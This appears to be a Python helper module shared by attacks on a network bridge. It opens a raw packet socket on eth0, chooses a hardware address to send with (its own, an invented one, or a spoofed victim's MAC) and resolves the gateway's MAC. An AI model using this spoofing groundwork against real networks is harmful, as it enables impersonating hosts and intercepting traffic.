"""What the attacks on a bridge share: the raw wire of eth0, whose hardware address to claim, and the gateway's."""
import socket
import sys
import time

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))


def hardware(text):
    return bytes.fromhex(text.replace(":", ""))


def sender(mode, victim_mac):
    """MODE is the hardware address to send with: "own", an "invented" one, or the "victim"'s."""
    own = hardware(open("/sys/class/net/eth0/address").read().strip())
    return {"own": own, "invented": hardware("02:de:ad:be:ef:01"), "victim": hardware(victim_mac)}[mode]


def gateway_mac(gateway):
    for _ in range(20):
        for fields in map(str.split, open("/proc/net/arp")):
            if fields[0] == gateway and fields[3] != "00:00:00:00:00:00":
                return hardware(fields[3])
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", (gateway, 9))
        time.sleep(0.1)
    sys.exit("the gateway has no hardware address")
